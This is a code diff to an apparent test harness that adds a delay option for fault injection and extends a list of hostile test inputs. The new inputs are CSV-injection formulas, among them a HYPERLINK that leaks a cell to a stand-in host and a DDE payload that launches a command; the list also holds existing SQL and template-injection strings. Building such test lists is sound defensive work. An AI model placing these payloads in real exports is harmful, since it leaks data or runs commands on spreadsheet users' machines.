@@ -26,11 +26,13 @@ export interface Faults {
   jitter?: number;
   /** Apply `status`/`body` only to the first N matching requests, then answer normally. */
   times?: number;
+  /** Let the first N matching requests through before `times` starts counting (a fault in the middle of a walk). */
+  after?: number;
   /** Apply `status`/`body` only to requests whose path contains this. */
   match?: string;
 }
 
-const NUMBER_KEYS = new Set(['latency', 'matchedLatency', 'failureRate', 'status', 'retryAfter', 'times', 'jitter']);
+const NUMBER_KEYS = new Set(['latency', 'matchedLatency', 'failureRate', 'status', 'retryAfter', 'times', 'after', 'jitter']);
 
 export function parseFaults(text: string | null): Faults {
   const faults: Record<string, string | number> = {};
@@ -77,6 +79,12 @@ export const HOSTILE_STRINGS = [
   '{{constructor.constructor("window.__pwned=1")()}} ${window.__pwned=1}',
   `${'W'.repeat(3000)}`,
   "'; DROP TABLE users; --",
+  // What a spreadsheet would run from an exported cell (CSV injection).
+  '=HYPERLINK("https://evil.invalid/?leak="&A1,"Click")',
+  '@SUM(1+1)*cmd|\' /C calc\'!A0',
+  '+1+1',
+  '-2+3',
+  '\t=1+1',
 ];
 const HUGE = ['123456789012345678901234567890.12', '0.000000000000000001', '99999999999999999999999999.999999'];
 const KEEP = new Set(['currency', 'user_id', 'user_account_id', 'transaction_id', 'provider_id', 'next_uri', 'order_id']);
